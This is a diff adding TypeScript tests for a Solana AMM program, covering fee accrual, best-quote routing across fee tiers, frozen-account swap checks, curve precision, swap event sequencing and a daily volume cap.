+    it("still lets LPs withdraw while locked", async () => {
+      const lpBefore = await getAccount(connection, pool.userLp);
+      const userXBefore = await getAccount(connection, userAtaX);
+
+      await program.methods
+        .withdraw(new BN(1_000_000), new BN(1), new BN(1))
+        .accounts(withdrawAccounts(pool))
+        .signers([user])
+        .rpc();
+
+      const lpAfter = await getAccount(connection, pool.userLp);
+      const userXAfter = await getAccount(connection, userAtaX);
+      expect(Number(lpBefore.amount) - Number(lpAfter.amount)).to.equal(1_000_000);
+      expect(Number(userXAfter.amount)).to.be.greaterThan(Number(userXBefore.amount));
+    });
+
+    it("accepts deposits again once unlocked", async () => {
+      await updateConfig(pool, { locked: false });
+
+      const lpBefore = await getAccount(connection, pool.userLp);
+      await depositInto(pool, new BN(1_000_000), new BN(1_000_000), new BN(1_000_000));
+      const lpAfter = await getAccount(connection, pool.userLp);
+
+      expect(Number(lpAfter.amount) - Number(lpBefore.amount)).to.equal(1_000_000);
+    });
+  });
+
+  describe("Fee Accrual", () => {
+    let pool: Pool;
+
+    async function balances() {
+      const configAccount = await program.account.config.fetch(pool.config);
+      return {
+        vaultX: Number((await getAccount(connection, pool.vaultX)).amount),
+        vaultY: Number((await getAccount(connection, pool.vaultY)).amount),
+        accruedX: configAccount.feesAccruedX.toNumber(),
+        accruedY: configAccount.feesAccruedY.toNumber(),
+      };
+    }
+
+    before(async () => {
+      pool = await initPool(45);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+      await updateConfig(pool, { accrueFees: true });
+    });
+
+    it("sets the swap fee aside instead of adding it to the reserves", async () => {
+      const { received } = await swapXForY(pool, 100_000);
+
+      // 1% of 100_000 is accrued; reserves plus accrued fees make up each vault
+      const after = await balances();
+      expect(after.accruedX).to.equal(1_000);
+      expect(after.accruedY).to.equal(0);
+      expect(after.vaultX - after.accruedX).to.equal(10_000_000 + 99_000);
+      expect(after.vaultY - after.accruedY).to.equal(10_000_000 - received);
+    });
+
+    it("prices the next swap against the reserves without accrued fees", async () => {
+      const before = await balances();
+      const { amountOut } = await program.methods
+        .quote(false, new BN(100_000))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      const reserveX = before.vaultX - before.accruedX;
+      const reserveY = before.vaultY - before.accruedY;
+      expect(amountOut.toNumber()).to.equal(cpOut(reserveY, reserveX, 99_000));
+
+      const userXBefore = await getAccount(connection, userAtaX);
+      await swapOn(pool, false, new BN(100_000), amountOut);
+      const userXAfter = await getAccount(connection, userAtaX);
+      const received = Number(userXAfter.amount) - Number(userXBefore.amount);
+
+      const after = await balances();
+      expect(after.accruedX).to.equal(before.accruedX);
+      expect(after.accruedY).to.equal(before.accruedY + 1_000);
+      expect(after.vaultX - after.accruedX).to.equal(reserveX - received);
+      expect(after.vaultY - after.accruedY).to.equal(reserveY + 99_000);
+    });
+
+    it("pays accrued fees out to LPs on withdrawal", async () => {
+      const before = await balances();
+      const userXBefore = await getAccount(connection, userAtaX);
+
+      await program.methods
+        .withdrawAll(new BN(1), new BN(1))
+        .accounts(withdrawAccounts(pool))
+        .signers([user])
+        .rpc();
+
+      // As the only LP, the user receives the reserves and the accrued fees
+      const userXAfter = await getAccount(connection, userAtaX);
+      const receivedX = Number(userXAfter.amount) - Number(userXBefore.amount);
+      expect(receivedX).to.be.closeTo(before.vaultX, 1);
+
+      const after = await balances();
+      expect(after.accruedX).to.equal(0);
+      expect(after.accruedY).to.equal(0);
+    });
+  });
+
+  describe("Best Quote", () => {
+    let low: Pool;
+    let medium: Pool;
+    let high: Pool;
+    const amountIn = 100_000;
+
+    function poolAccounts(pools: Pool[]) {
+      return pools.flatMap((pool) =>
+        [pool.config, pool.vaultX, pool.vaultY, pool.mintLp].map((pubkey) => ({
+          pubkey,
+          isWritable: false,
+          isSigner: false,
+        }))
+      );
+    }
+
+    async function bestQuote(pools: Pool[]) {
+      return program.methods
+        .bestQuote(true, new BN(amountIn))
+        .accounts({ mintX, mintY })
+        .remainingAccounts(poolAccounts(pools))
+        .view();
+    }
+
+    before(async () => {
+      low = await initPool(46, 5);
+      medium = await initPool(47, 30);
+      high = await initPool(48, 100);
+      for (const pool of [low, medium, high]) {
+        await depositInto(
+          pool,
+          new BN(10_000_000),
+          new BN(10_000_000),
+          new BN(10_000_000)
+        );
+      }
+    });
+
+    it("picks the lowest fee tier between pools of equal depth", async () => {
+      const best = await bestQuote([high, low, medium]);
+
+      const { amountOut } = await program.methods
+        .quote(true, new BN(amountIn))
+        .accounts(quoteAccounts(low))
+        .view();
+      expect(best.config.toBase58()).to.equal(low.config.toBase58());
+      expect(best.amountOut.toNumber()).to.equal(amountOut.toNumber());
+    });
+
+    it("skips a locked pool", async () => {
+      await updateConfig(low, { locked: true });
+      try {
+        const best = await bestQuote([high, low, medium]);
+        expect(best.config.toBase58()).to.equal(medium.config.toBase58());
+      } finally {
+        await updateConfig(low, { locked: false });
+      }
+    });
+
+    it("skips a pool with tokens but no LPs", async () => {
+      // Donated tokens are not liquidity, so a swap on this pool is rejected
+      const donated = await initPool(52, 5);
+      await mintTo(connection, payer, mintX, donated.vaultX, mintAuthority, 10_000_000);
+      await mintTo(connection, payer, mintY, donated.vaultY, mintAuthority, 10_000_000);
+
+      const best = await bestQuote([donated, medium]);
+      expect(best.config.toBase58()).to.equal(medium.config.toBase58());
+    });
+
+    it("rejects an LP mint that is not the pool's", async () => {
+      try {
+        const accounts = poolAccounts([low]);
+        accounts[3].pubkey = medium.mintLp;
+        await program.methods
+          .bestQuote(true, new BN(amountIn))
+          .accounts({ mintX, mintY })
+          .remainingAccounts(accounts)
+          .view();
+        expect.fail("Should have failed with invalid pool accounts error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidPoolAccounts");
+      }
+    });
+
+    it("rejects pools over a different pair", async () => {
+      try {
+        await program.methods
+          .bestQuote(true, new BN(amountIn))
+          .accounts({ mintX: mintY, mintY: mintX })
+          .remainingAccounts(poolAccounts([low, medium]))
+          .view();
+        expect.fail("Should have failed with invalid token error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidToken");
+      }
+    });
+
+    it("rejects accounts that are not whole pool groups", async () => {
+      try {
+        const accounts = poolAccounts([low, medium]).slice(0, 6);
+        await program.methods
+          .bestQuote(true, new BN(amountIn))
+          .accounts({ mintX, mintY })
+          .remainingAccounts(accounts)
+          .view();
+        expect.fail("Should have failed with invalid pool accounts error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidPoolAccounts");
+      }
+    });
+  });
+
+  describe("Swap Transfer Checks", () => {
+    // A pair whose mints can freeze accounts, unlike the shared test mints
+    let freezeX: PublicKey;
+    let freezeY: PublicKey;
+    let userFreezeX: PublicKey;
+    let userFreezeY: PublicKey;
+    let accounts: Awaited<ReturnType<typeof initializeAccounts>>;
+
+    function swapAccounts() {
+      return {
+        user: user.publicKey,
+        mintX: freezeX,
+        mintY: freezeY,
+        config: accounts.config,
+        mintLp: accounts.mintLp,
+        vaultX: accounts.vaultX,
+        vaultY: accounts.vaultY,
+        userX: userFreezeX,
+        userY: userFreezeY,
+        tokenProgram: TOKEN_PROGRAM_ID,
+        associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+        systemProgram: SystemProgram.programId,
+      };
+    }
+
+    async function swapFrozenPair(amountIn: number) {
+      return program.methods
+        .swap(true, new BN(amountIn), new BN(1))
+        .accounts(swapAccounts())
+        .signers([user])
+        .rpc();
+    }
+
+    async function balances() {
+      return Promise.all(
+        [userFreezeX, userFreezeY, accounts.vaultX, accounts.vaultY].map(
+          async (account) => (await getAccount(connection, account)).amount
+        )
+      );
+    }
+
+    before(async () => {
+      [freezeX, freezeY] = await Promise.all(
+        [0, 1].map(() =>
+          createMint(
+            connection,
+            payer,
+            mintAuthority.publicKey,
+            mintAuthority.publicKey,
+            6
+          )
+        )
+      );
+      userFreezeX = await createAssociatedTokenAccount(
+        connection,
+        payer,
+        freezeX,
+        user.publicKey
+      );
+      userFreezeY = await createAssociatedTokenAccount(
+        connection,
+        payer,
+        freezeY,
+        user.publicKey
+      );
+      await mintTo(connection, payer, freezeX, userFreezeX, mintAuthority, 20_000_000);
+      await mintTo(connection, payer, freezeY, userFreezeY, mintAuthority, 20_000_000);
+
+      const poolSeed = canonicalSeed(freezeX, freezeY, fee);
+      accounts = await initializeAccounts(poolSeed, freezeX, freezeY);
+      await program.methods
+        .initialize(poolSeed, fee, payer.publicKey)
+        .accounts(accounts)
+        .rpc();
+
+      await program.methods
+        .deposit(new BN(10_000_000), new BN(10_000_000), new BN(10_000_000))
+        .accounts({
+          ...swapAccounts(),
+          userLp: await getAssociatedTokenAddress(accounts.mintLp, user.publicKey),
+        })
+        .signers([user])
+        .rpc();
+    });
+
+    it("rejects a frozen output account before taking the input", async () => {
+      await freezeAccount(connection, payer, userFreezeY, freezeY, mintAuthority);
+
+      const before = await balances();
+      try {
+        await swapFrozenPair(100_000);
+        expect.fail("Should have failed with account frozen error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("AccountFrozen");
+      } finally {
+        await thawAccount(connection, payer, userFreezeY, freezeY, mintAuthority);
+      }
+
+      // The reverted swap left both sides exactly as they were
+      expect(await balances()).to.deep.equal(before);
+    });
+
+    it("rejects a relayed swap into a frozen account before taking the input", async () => {
+      const amountIn = new BN(100_000);
+      const minOut = new BN(1);
+      const deadline = new BN(Math.floor(Date.now() / 1000) + 3_600);
+      const [swapNonce] = PublicKey.findProgramAddressSync(
+        [Buffer.from("swap_nonce"), user.publicKey.toBuffer()],
+        program.programId
+      );
+      const { nextNonce } = await program.account.swapNonce.fetch(swapNonce);
+      const verifyIx = Ed25519Program.createInstructionWithPrivateKey({
+        privateKey: user.secretKey,
+        message: Buffer.concat([
+          Buffer.from("anchor-amm-q4-25:swap"),
+          accounts.config.toBuffer(),
+          user.publicKey.toBuffer(),
+          Buffer.from([1]),
+          amountIn.toArrayLike(Buffer, "le", 8),
+          minOut.toArrayLike(Buffer, "le", 8),
+          nextNonce.toArrayLike(Buffer, "le", 8),
+          deadline.toArrayLike(Buffer, "le", 8),
+        ]),
+      });
+      await approve(connection, payer, userFreezeX, accounts.config, user, 100_000);
+      await freezeAccount(connection, payer, userFreezeY, freezeY, mintAuthority);
+
+      const before = await balances();
+      try {
+        await program.methods
+          .swapWithSignature(true, amountIn, minOut, nextNonce, deadline)
+          .accounts({
+            ...swapAccounts(),
+            relayer: payer.publicKey,
+            swapNonce,
+            instructions: SYSVAR_INSTRUCTIONS_PUBKEY,
+          })
+          .preInstructions([verifyIx])
+          .rpc();
+        expect.fail("Should have failed with account frozen error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("AccountFrozen");
+      } finally {
+        await thawAccount(connection, payer, userFreezeY, freezeY, mintAuthority);
+      }
+
+      expect(await balances()).to.deep.equal(before);
+    });
+
+    it("rejects an input the user does not hold before any transfer", async () => {
+      const [userX] = await balances();
+
+      const before = await balances();
+      try {
+        await swapFrozenPair(Number(userX) + 1);
+        expect.fail("Should have failed with insufficient balance error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InsufficientBalance");
+      }
+
+      expect(await balances()).to.deep.equal(before);
+    });
+
+    it("swaps normally once the account is thawed", async () => {
+      const [userXBefore, userYBefore] = await balances();
+      await swapFrozenPair(100_000);
+      const [userXAfter, userYAfter] = await balances();
+
+      expect(Number(userXBefore - userXAfter)).to.equal(100_000);
+      expect(Number(userYAfter - userYBefore)).to.be.greaterThan(0);
+    });
+  });
+
+  describe("Curve Precision", () => {
+    let pool: Pool;
+
+    async function setPrecision(precision: number, on: Pool = pool) {
+      return program.methods
+        .setPrecision(precision)
+        .accounts({ authority: payer.publicKey, config: on.config })
+        .rpc();
+    }
+
+    before(async () => {
+      pool = await initPool(49);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("starts at the default precision", async () => {
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.precision).to.equal(6);
+    });
+
+    it("only changes precision while the pool is locked", async () => {
+      try {
+        await setPrecision(9);
+        expect.fail("Should have failed with pool not locked error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("PoolNotLocked");
+      }
+    });
+
+    it("rejects a precision the curve cannot compute with", async () => {
+      await updateConfig(pool, { locked: true });
+      try {
+        await setPrecision(255);
+        expect.fail("Should have failed with invalid precision error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidPrecision");
+      }
+    });
+
+    it("accepts a precision regardless of the pool's reserves", async () => {
+      // Only the curve library's bounds decide, so an empty pool takes one too
+      const empty = await initPool(53);
+      await updateConfig(empty, { locked: true });
+      await setPrecision(8, empty);
+
+      const configAccount = await program.account.config.fetch(empty.config);
+      expect(configAccount.precision).to.equal(8);
+    });
+
+    it("prices swaps at the new precision once unlocked", async () => {
+      await setPrecision(9);
+      await updateConfig(pool, { locked: false });
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.precision).to.equal(9);
+
+      // The quote and the swap both run the curve at the stored precision
+      const { amountOut } = await program.methods
+        .quote(true, new BN(100_000))
+        .accounts(quoteAccounts(pool))
+        .view();
+      const before = await getAccount(connection, userAtaY);
+      await swapOn(pool, true, new BN(100_000), amountOut);
+      const after = await getAccount(connection, userAtaY);
+
+      expect(Number(after.amount) - Number(before.amount)).to.equal(amountOut.toNumber());
+      expect(amountOut.toNumber()).to.be.closeTo(cpOut(10_000_000, 10_000_000, 99_000), 1);
+    });
+  });
+
+  describe("Swap Sequence", () => {
+    let pool: Pool;
+    const parser = new anchor.EventParser(
+      program.programId,
+      new anchor.BorshCoder(program.idl)
+    );
+
+    async function swapSequence(isX: boolean): Promise<number> {
+      const sig = await program.methods
+        .swap(isX, new BN(10_000), new BN(1))
+        .accounts({
+          user: user.publicKey,
+          mintX,
+          mintY,
+          config: pool.config,
+          mintLp: pool.mintLp,
+          vaultX: pool.vaultX,
+          vaultY: pool.vaultY,
+          userX: userAtaX,
+          userY: userAtaY,
+          tokenProgram: TOKEN_PROGRAM_ID,
+          associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+          systemProgram: SystemProgram.programId,
+        })
+        .signers([user])
+        .rpc({ commitment: "confirmed" });
+
+      const tx = await connection.getTransaction(sig, {
+        commitment: "confirmed",
+        maxSupportedTransactionVersion: 0,
+      });
+      const events = [...parser.parseLogs(tx.meta.logMessages)].filter(
+        (event) => event.name === "swapEvent"
+      );
+      expect(events).to.have.lengthOf(1);
+      return events[0].data.sequence.toNumber();
+    }
+
+    before(async () => {
+      pool = await initPool(50);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("numbers consecutive swap events 1, 2, 3 in both directions", async () => {
+      const sequences = [];
+      for (const isX of [true, false, true]) {
+        sequences.push(await swapSequence(isX));
+      }
+
+      expect(sequences).to.deep.equal([1, 2, 3]);
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.sequence.toNumber()).to.equal(3);
+    });
+
+    it("does not advance on a failed swap", async () => {
+      try {
+        await swapOn(pool, true, new BN(10_000), new BN(10_000_000));
+        expect.fail("Should have failed with slippage error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("SlippageExceeded");
+      }
+
+      expect(await swapSequence(false)).to.equal(4);
+    });
+  });
+
+  describe("Daily Volume Cap", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(51);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+      await updateConfig(pool, { dailyVolumeCap: new BN(300_000) });
+    });
+
+    it("accepts swaps up to the cap and counts both directions in X", async () => {
+      await swapOn(pool, true, new BN(100_000), new BN(1));
+
+      const userXBefore = await getAccount(connection, userAtaX);
+      await swapOn(pool, false, new BN(100_000), new BN(1));
+      const userXAfter = await getAccount(connection, userAtaX);
+      const boughtX = Number(userXAfter.amount) - Number(userXBefore.amount);
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.windowVolume.toNumber()).to.equal(100_000 + boughtX);
+      expect(configAccount.volumeWindowStart.toNumber()).to.be.greaterThan(0);
+
+      // Fill the window exactly to the cap
+      const remaining = 300_000 - configAccount.windowVolume.toNumber();
+      await swapOn(pool, true, new BN(remaining), new BN(1));
+      const filled = await program.account.config.fetch(pool.config);
+      expect(filled.windowVolume.toNumber()).to.equal(300_000);
+    });
+
+    it("rejects a swap past the cap", async () => {
+      try {
+        await swapOn(pool, true, new BN(10_000), new BN(1));
+        expect.fail("Should have failed with volume cap exceeded error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("VolumeCapExceeded");
+      }
+    });
+
+    it("lets swaps through again once the cap is lifted", async () => {
+      await updateConfig(pool, { dailyVolumeCap: new BN("18446744073709551615") });
+      await swapOn(pool, true, new BN(100_000), new BN(1));
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.windowVolume.toNumber()).to.equal(400_000);
+    });
+  });
 });